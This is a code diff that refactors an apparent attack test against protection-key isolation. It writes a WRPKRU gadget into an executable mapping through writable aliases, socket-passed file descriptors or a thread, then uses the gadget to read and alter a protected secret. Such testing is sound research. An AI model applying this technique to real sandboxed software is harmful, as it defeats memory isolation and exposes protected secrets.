@@ -16,68 +16,13 @@
  *
  * The new bytes are a WRPKRU gadget; with protection keys the program
  * calls it with the trusted PKRU and reads the secret. */
-#include <fcntl.h>
 #include <sched.h>
-#include <sys/socket.h>
 #include <sys/stat.h>
 
 #include "atk_common.h"
+#include "atk_file_exec.h"
 
-/* mov eax,edi; xor ecx,ecx; xor edx,edx; wrpkru; ret */
-static const uint8_t gadget[] = { 0x89, 0xf8, 0x31, 0xc9, 0x31, 0xd2, 0x0f, 0x01, 0xef, 0xc3 };
 static const uint8_t clean[] = { 0xb8, 0x07, 0x00, 0x00, 0x00, 0xc3 };   /* mov eax,7; ret */
-
-static int make_file(const char *path)
-{
-	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
-	int ok = fd >= 0 && ftruncate(fd, 4096) == 0 && pwrite(fd, clean, sizeof clean, 0) == (ssize_t)sizeof clean;
-
-	if (fd >= 0)
-		close(fd);
-	return ok ? 0 : -1;
-}
-
-static int pass_fd(int sock, int fd)
-{
-	char data = 'f';
-	union { char buf[CMSG_SPACE(sizeof(int))]; struct cmsghdr align; } u;
-	struct iovec iov = { &data, 1 };
-	struct msghdr msg;
-	struct cmsghdr *cm;
-
-	memset(&msg, 0, sizeof msg);
-	memset(&u, 0, sizeof u);
-	msg.msg_iov = &iov;
-	msg.msg_iovlen = 1;
-	msg.msg_control = u.buf;
-	msg.msg_controllen = sizeof u.buf;
-	cm = CMSG_FIRSTHDR(&msg);
-	cm->cmsg_level = SOL_SOCKET;
-	cm->cmsg_type = SCM_RIGHTS;
-	cm->cmsg_len = CMSG_LEN(sizeof(int));
-	memcpy(CMSG_DATA(cm), &fd, sizeof fd);
-	return sendmsg(sock, &msg, 0) == 1 ? 0 : -1;
-}
-
-static int take_fd(int sock)
-{
-	char data;
-	union { char buf[CMSG_SPACE(sizeof(int))]; struct cmsghdr align; } u;
-	struct iovec iov = { &data, 1 };
-	struct msghdr msg;
-	struct cmsghdr *cm;
-	int fd;
-
-	memset(&msg, 0, sizeof msg);
-	msg.msg_iov = &iov;
-	msg.msg_iovlen = 1;
-	msg.msg_control = u.buf;
-	msg.msg_controllen = sizeof u.buf;
-	if (recvmsg(sock, &msg, 0) != 1 || !(cm = CMSG_FIRSTHDR(&msg)) || cm->cmsg_type != SCM_RIGHTS)
-		return -1;
-	memcpy(&fd, CMSG_DATA(cm), sizeof fd);
-	return fd;
-}
 
 /* the thread with a private fd table */
 static const char *thr_path;
@@ -92,7 +37,7 @@ static int thr_main(void *arg)
 	while (thr_state == 1)
 		syscall(SYS_sched_yield);
 	if (thr_state == 2)
-		thr_state = pwrite(fd, gadget, sizeof gadget, 0) == (ssize_t)sizeof gadget ? 3 : -1;
+		thr_state = pwrite(fd, atk_gadget, sizeof atk_gadget, 0) == (ssize_t)sizeof atk_gadget ? 3 : -1;
 	for (;;)
 		syscall(SYS_pause);
 	return 0;
@@ -106,10 +51,10 @@ static int try_mode(const char *mode)
 	static int nth;
 	char path[80];
 	volatile uint8_t *x, *alias = NULL;
-	int fd, wfd, sv[2] = { -1, -1 }, won = 0, late = strstr(mode, "mprotect") != NULL;
+	int fd, wfd, sv[2] = { -1, -1 }, won, late = strstr(mode, "mprotect") != NULL;
 
 	snprintf(path, sizeof path, "/tmp/atk_hidden_writer.%d.%d", (int)getpid(), nth++);
-	if (make_file(path) != 0)
+	if (atk_make_file(path, clean, sizeof clean) != 0)
 		return -1;
 	if (!strcmp(mode, "shared")) {
 		if ((fd = open(path, O_RDWR)) < 0)
@@ -121,7 +66,7 @@ static int try_mode(const char *mode)
 	} else if (!strncmp(mode, "socket", 6)) {
 		if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0 || (fd = open(path, O_RDWR)) < 0)
 			return -1;
-		if (pass_fd(sv[0], fd) != 0)
+		if (atk_send_fd(sv[0], fd) != 0)
 			return -1;
 		close(fd);
 	} else {
@@ -145,13 +90,13 @@ static int try_mode(const char *mode)
 	}
 	if (!strcmp(mode, "shared")) {
 		if (mprotect((void *)alias, 4096, PROT_READ | PROT_WRITE) == 0) {
-			memcpy((void *)alias, gadget, sizeof gadget);
+			memcpy((void *)alias, atk_gadget, sizeof atk_gadget);
 			atk_say("%s: the read-only shared alias was made writable; gadget written", mode);
 		} else {
 			atk_say("%s: mprotect(shared alias, RW): %s", mode, strerror(errno));
 		}
 	} else if (!strncmp(mode, "socket", 6)) {
-		if ((wfd = take_fd(sv[1])) >= 0 && pwrite(wfd, gadget, sizeof gadget, 0) == (ssize_t)sizeof gadget)
+		if ((wfd = atk_recv_fd(sv[1])) >= 0 && pwrite(wfd, atk_gadget, sizeof atk_gadget, 0) == (ssize_t)sizeof atk_gadget)
 			atk_say("%s: the fd came back out of the socket; gadget written", mode);
 		else
 			atk_say("%s: fd back from the socket / pwrite: %s", mode, strerror(errno));
@@ -162,22 +107,9 @@ static int try_mode(const char *mode)
 		atk_say("%s: the thread's pwrite %s", mode, thr_state == 3 ? "wrote the gadget" : "failed");
 	}
 	unlink(path);
-	if (x[6] == 0x0f && x[7] == 0x01 && x[8] == 0xef) {
-		atk_say("%s: the read+execute mapping now holds WRPKRU", mode);
-		won = 1;
-		if (atk_pkey > 0) {
-			uint32_t (*fn)(uint32_t) = (uint32_t (*)(uint32_t))(uintptr_t)x;
-			uint8_t got;
-
-			fn(atk_pkru_t);   /* untrusted code executes WRPKRU */
-			got = atk_secret[0];
-			atk_secret[0] = (uint8_t)(got + 1);
-			atk_untrusted();
-			atk_say("%s: WRPKRU ran from untrusted code: secret byte 0x%02x read and changed", mode, got);
-		}
-	} else {
+	won = atk_gadget_won(mode, x);
+	if (!won)
 		atk_say("%s: the executable bytes are the inspected ones (0x%02x ...)", mode, x[0]);
-	}
 	munmap((void *)x, 4096);   /* no seam with the next mode's mapping */
 	return won;
 }
